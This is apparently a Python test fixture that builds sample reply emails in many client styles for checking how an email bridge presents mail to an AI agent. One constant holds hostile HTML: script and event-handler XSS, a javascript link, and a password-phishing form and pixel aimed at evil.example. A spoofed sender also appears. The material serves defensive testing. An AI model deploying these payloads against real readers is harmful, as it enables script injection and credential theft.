"""What a consumer's mail program, or her mail system, makes of an answer: the mails that a bridge meets in life."""

from __future__ import annotations

import html
from collections.abc import Sequence
from dataclasses import dataclass, field
from email import policy
from email.message import EmailMessage
from email.utils import format_datetime, formataddr, localtime, make_msgid

from sandbox import delivery_report
from sandbox.files import File
from sandbox.mailbox import Mail

HOST = "mail.sandbox.invalid"  # of the consumers' mail system, and of ours


@dataclass(frozen=True, slots=True)
class Style:
    """One kind of mail. `says` and `expect` stand on the page; `quotes`: whether it needs a mail to answer."""

    name: str
    says: str
    expect: str
    quotes: bool = True


STYLES = (
    Style("above", "Plain text, above the quote", "The agent sees the new text alone."),
    Style("below", "Plain text, below the quote", "The agent sees the new text alone."),
    Style("between", "Plain text, between quoted lines", "The agent sees all of it: the quote is part of the answer."),
    Style("gmail", "Text and HTML, as Gmail writes", "The agent sees the new text alone."),
    Style("outlook", "HTML alone, as Outlook writes", "The agent sees the new text alone, read from the HTML."),
    Style("phone", "HTML alone, from a phone", "The signature of the phone is left out."),
    Style("unmarked", "Quoted without any mark", "The quote is recognised by its words, which dcbridge sent."),
    Style("other", "From another mailbox of hers", "Reply-To leads back to the conversation; a line says so."),
    Style("fresh", "A new mail, which answers nothing", "It reaches the agent like any other.", quotes=False),
    Style("forward", "Somebody else’s mail, forwarded", "Forwarded mail stays whole.", quotes=False),
    Style("away", "Out of office", "Hidden from the agent, and counted."),
    Style("bounce", "Returned by her mail system", "A delivery report, after “delivered”: counted as late."),
    Style("spoofed", "Somebody else, in her name", "DMARC fails: the agent sees a mark."),
    Style("hostile", "HTML that attacks who reads it", "Text, and nothing that runs or is fetched."),
)  # fmt: skip
BY_NAME = {style.name: style for style in STYLES}

_ATTACK = (
    "<script>document.title='run'</script><img src=x onerror=\"document.title='run'\">"
    '<a href="javascript:document.title=1">a link</a><svg onload="document.title=1"></svg>'
    '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe><base href="https://evil.example/">'
    '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>'
    '<img src="https://evil.example/pixel.gif" width=1><meta http-equiv="refresh" content="0;url=//evil.example">'
    "<style>body{display:none}</style>"
)


@dataclass(frozen=True, slots=True)
class Composed:
    """A mail on its way. `text` and `html` as it was written, "" where it has none."""

    raw: bytes = field(repr=False)
    envelope_from: str
    sender: str
    to: str
    subject: str
    text: str
    html: str
    verdict: str = "pass"  # of DMARC, by her mail system


@dataclass(frozen=True, slots=True)
class Answer:
    """What somebody writes. `mailbox` is hers, `answered` the mail that she has before her."""

    said: str
    mailbox: str
    to: str
    subject: str = ""
    answered: Mail | None = None
    files: Sequence[tuple[str, File]] = ()


def compose(style: str, answer: Answer) -> Composed:
    """The mail of one style. Raises ValueError where the style needs a mail to answer."""
    if BY_NAME[style].quotes and answer.answered is None:
        raise ValueError("answers: this kind of mail answers another one")
    if style == "bounce":
        return _bounce(answer)
    quoted = _quoted_text(answer.answered)
    subject = answer.subject or _subject(style, answer.answered)
    sender, text, markup = answer.mailbox, answer.said, ""
    introduction = _introduction(answer.answered)
    marked = "\n".join(f"> {line}".rstrip() for line in quoted.split("\n"))
    if style == "above":
        text = f"{answer.said}\n\n{introduction}\n{marked}\n"
    elif style == "below":
        text = f"{introduction}\n{marked}\n\n{answer.said}\n"
    elif style == "between":
        first, *rest = marked.split("\n")
        text = "\n".join([introduction, first, "", answer.said, "", *(rest or ["> "]), "", "Thanks!"])
    elif style == "gmail":
        text, markup = f"{answer.said}\n\n{introduction}\n\n{marked}\n", _gmail(answer, introduction, quoted)
    elif style == "outlook":
        text, markup = "", _outlook(answer, quoted)
    elif style == "phone":
        text = ""
        markup = (
            f'<div>{_lines(answer.said)}</div><div><br></div><div id="AppleMailSignature">Sent from my iPhone</div>'
        )
        markup += f'<div><br><blockquote type="cite">{html.escape(introduction)}<br>{_lines(quoted)}</blockquote></div>'
    elif style == "unmarked":
        text = f"{answer.said}\n\n{quoted}\n"
    elif style == "other":
        local, _, _ = answer.mailbox.partition("@")
        sender = f"{local}.private@mail.example"
        text = f"{answer.said}\n\n{introduction}\n{marked}\n"
    elif style == "forward":
        text = (
            f"{answer.said}\n\n---------- Forwarded message ---------\nFrom: Shop <shop@example.net>\n"
            "Date: Mon, 23 Nov 2026 at 09:12\nSubject: Your parcel\n"
            f"To: <{answer.mailbox}>\n\nYour parcel could not be delivered.\n"
        )
    elif style == "away":
        text = f"{answer.said}\n\nI am out of the office until Monday."
    elif style == "hostile":
        text, markup = "", f"<p>{html.escape(answer.said)}</p>{_ATTACK}"
    return _written(style, answer, sender, subject, text, markup)


def _written(style: str, answer: Answer, sender: str, subject: str, text: str, markup: str) -> Composed:
    message = EmailMessage(policy.SMTP)
    name = sender.partition("@")[0].replace(".", " ").title()
    message["From"] = formataddr((name, sender)) if name.isascii() else sender
    message["To"] = answer.to
    message["Subject"] = subject
    message["Date"] = format_datetime(localtime())
    message["Message-ID"] = make_msgid(domain=sender.rpartition("@")[2] or HOST)
    if answer.answered is not None and style not in ("fresh", "forward", "unmarked", "spoofed"):
        _threaded(message, answer.answered)
    if style == "away":
        message["Auto-Submitted"] = "auto-replied"
        message["X-Auto-Response-Suppress"] = "All"
    pictures = [one for one in answer.files if markup and one[1].mimetype.startswith("image/")]
    if pictures:
        markup += "".join(f'<div><img src="cid:{name}" alt="{html.escape(name)}"></div>' for name, _ in pictures)
    if text:
        message.set_content(text, cte="quoted-printable")
    if markup and text:
        message.add_alternative(markup, subtype="html", cte="quoted-printable")
    elif markup:
        message.set_content(markup, subtype="html", cte="quoted-printable")
    body = message.get_body(("html",))
    for file_name, file in answer.files:
        kind, _, subtype = file.mimetype.partition("/")
        if (file_name, file) in pictures and isinstance(body, EmailMessage):
            body.add_related(file.data, kind, subtype, cid=f"<{file_name}>", filename=file_name, disposition="inline")
        else:
            message.add_attachment(file.data, kind, subtype, filename=file_name)
    failed = style == "spoofed"
    envelope = "" if style == "away" else "thief@evil.example" if failed else sender
    verdict = "fail" if failed else "pass"
    return Composed(message.as_bytes(), envelope, sender, answer.to, subject, text, markup, verdict)


def _bounce(answer: Answer) -> Composed:
    """A report of her mail system, to the envelope's sender, without the envelope's id: many systems lose that."""
    mail = answer.answered
    assert mail is not None
    said = "550 5.1.1 The mailbox does not exist"
    outcome = delivery_report.Outcome(answer.mailbox, "", "failed", "5.1.1", said)
    raw = delivery_report.write(mail.mail_from, "", mail.raw, False, mail.at, [outcome])
    sender = f"MAILER-DAEMON@{HOST}"
    return Composed(raw, "", sender, mail.mail_from, "Undelivered Mail Returned to Sender", said, "")


def _threaded(message: EmailMessage, answered: Mail) -> None:
    parsed = answered.parsed()
    if ours := str(parsed.get("message-id", "")):
        message["In-Reply-To"] = ours
        message["References"] = f"{parsed.get('references', '')} {ours}".strip()


def _subject(style: str, answered: Mail | None) -> str:
    subject = str(answered.parsed().get("subject", "")) if answered else ""
    if style == "forward":
        return "Fwd: Your parcel"
    if style == "away":
        return f"Automatic reply: {subject}"
    if style == "fresh" or answered is None:
        return "A question"
    return subject if subject.lower().startswith("re:") else f"Re: {subject}"


def _quoted_text(answered: Mail | None) -> str:
    return answered.plain_text().strip().replace("\r\n", "\n") if answered else ""


def _introduction(answered: Mail | None) -> str:
    if answered is None:
        return ""
    parsed = answered.parsed()
    return f"On {localtime():%a, %d %b %Y at %H:%M}, {parsed.get('from', '')} wrote:"


def _lines(text: str) -> str:
    return "<br>".join(html.escape(line) for line in text.split("\n"))


def _gmail(answer: Answer, introduction: str, quoted: str) -> str:
    return (
        f'<div dir="ltr">{_lines(answer.said)}</div><br><div class="gmail_quote gmail_quote_container">'
        f'<div dir="ltr" class="gmail_attr">{html.escape(introduction)}<br></div>'
        '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);'
        f'padding-left:1ex">{_lines(quoted)}</blockquote></div>'
    )


def _outlook(answer: Answer, quoted: str) -> str:
    assert answer.answered is not None
    parsed = answer.answered.parsed()
    rows = [("From", parsed.get("from", "")), ("Sent", f"{localtime():%A, %d %B %Y %H:%M}"), ("To", answer.mailbox)]
    rows.append(("Subject", parsed.get("subject", "")))
    head = "<br>".join(f"<b>{name}:</b> {html.escape(str(value))}" for name, value in rows)
    return (
        f'<html><body><div class="elementToProof">{_lines(answer.said)}</div><hr style="width:98%">'
        f'<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri">{head}</font></div><div>{_lines(quoted)}</div>'
        "</body></html>"
    )
